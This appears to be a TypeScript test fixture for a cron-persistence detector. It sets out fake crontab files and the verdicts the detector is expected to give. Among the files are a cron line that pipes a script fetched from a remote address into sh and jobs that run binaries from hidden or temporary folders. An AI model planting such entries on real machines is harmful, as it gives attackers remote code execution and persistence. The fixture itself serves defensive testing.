import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/var/spool/cron/crontabs/ann':
      '# m h dom mon dow command\n*/5 * * * * curl -fsSL http://203.0.113.20/i.sh|sh\n15 3 * * * curl -T /srv/n.tar.gz https://backup.example.net/in/\n',
    '/var/spool/cron/root': '11 * * * * /root/.config/cron/perfcc\n',
    '/etc/cron.d/perfclean': '11 * * * * root /var/tmp/.xdiag/upd || /bin/perfcc\n',
    '/etc/cron.d/hostwatch': '30 2 * * * root "/srv/jobs/nightly export.sh"\n',
    '/etc/anacrontab': 'SHELL=/bin/sh\n1 5 x /dev/shm/.x/run\n',
    '/etc/crontabs/root': '*/15 * * * * run-parts /etc/periodic/15min\n',
  },
  blamed: [
    {
      path: '/var/spool/cron/crontabs/ann',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1053.003',
    },
    {
      path: '/etc/cron.d/perfclean',
      line: 1,
      verdict: 'malicious',
      code: 'hidden-path',
      attack: 'T1053.003',
    },
    { path: '/etc/anacrontab', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1053.003' },
  ],
  passed: ['/etc/cron.d/hostwatch', 'ann line 3', '/etc/crontabs/root'],
};
